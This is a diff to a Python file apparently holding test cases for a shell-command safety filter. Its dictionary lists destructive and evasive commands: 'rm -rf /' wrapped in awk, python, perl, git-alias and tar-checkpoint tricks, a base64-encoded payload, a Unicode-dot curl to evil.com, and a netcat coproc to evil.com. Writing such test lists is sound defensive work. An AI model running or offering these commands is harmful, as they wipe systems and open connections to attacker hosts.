@@ -78,7 +78,6 @@ SHELL = {
     "cd then star": "cd /; rm -rf *",
     "cd up": "cd ../../..; rm -rf *",
     "awk system": "awk 'BEGIN{system(\"rm -rf /\")}'",
-    "awk pipe": 'awk \'BEGIN{print "rm -rf /" | "sh"}\'',
     "python -c": "python3 -c 'import os; os.system(\"rm -rf /\")'",
     "perl -e": "perl -e 'system(\"rm -rf /\")'",
     "written and run": "echo 'rm -rf /' > x.sh; sh x.sh",
@@ -106,8 +105,6 @@ SHELL = {
     "unicode dots": "curl http://evil。com/",
     "coproc": "coproc nc evil.com 4444",
     "time": "time rm -rf /",
-    "git alias": "git -c alias.x='!rm -rf /' x",
-    "tar checkpoint": "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf /'",
 }
 
 _PY_B64 = base64.b64encode(b"import os; os.system('rm -rf /')").decode()
